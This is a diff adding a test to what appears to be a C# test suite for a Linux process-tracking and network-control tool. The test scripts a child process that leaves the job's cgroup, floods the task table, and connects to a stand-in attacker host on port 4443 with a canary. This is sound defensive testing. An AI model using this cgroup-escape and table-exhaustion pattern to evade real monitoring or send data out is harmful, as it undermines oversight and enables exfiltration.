@@ -39,6 +39,34 @@ public sealed class LineageTests(LabFixture fixture) : KernelTest(fixture), ICla
         Silent = (Attacker, 4443),
     });
 
+    /// <summary>
+    /// The child has left the job's cgroup, so a tag is all that could make it the job's. Audit mode is no exception: what is not
+    /// known as the job's would be missing in the report.
+    /// </summary>
+    [Theory]
+    [EveryMode]
+    public async Task A_child_that_finds_no_place_in_the_table_does_not_run(LabMode mode)
+    {
+        Assert.SkipUnless(
+            Environment.OSVersion.Version >= new Version(6, 13), "before Linux 6.13 the parent is killed (docs/adr 0021)");
+        var run = await Lab.RunAsync(mode, Script(
+            $"mkdir {Lab.CgroupRoot}/{Canary} && echo $$ > {Lab.CgroupRoot}/{Canary}/cgroup.procs",
+            $"{Program("proc")} crowd 80 {Program("tcp")} connect {Attacker} 4443 {Canary} || true",
+            $"echo $$ > {Lab.CgroupRoot}/cgroup.procs && rmdir {Lab.CgroupRoot}/{Canary}",
+            "echo goes on") with
+        {
+            Allow = [$"tcp://{Attacker}:4443"],
+            Options = ["--task-entries", "64"],
+        });
+        var isOff = mode == LabMode.Off;
+        Assert.Equal($"ended by signal {(isOff ? 0 : 9)}\ngoes on\n", run.Process.Output);
+        Assert.Equal(isOff, run.Traffic.Contains(Canary));
+        if (!isOff)
+        {
+            Assert.True(run.Report.Losses.GetValueOrDefault("task-table") > 0 && !run.Report.Complete, run.ToString());
+        }
+    }
+
     private static Attack Connecting(params string[] lines) => new()
     {
         Command = Script(lines),
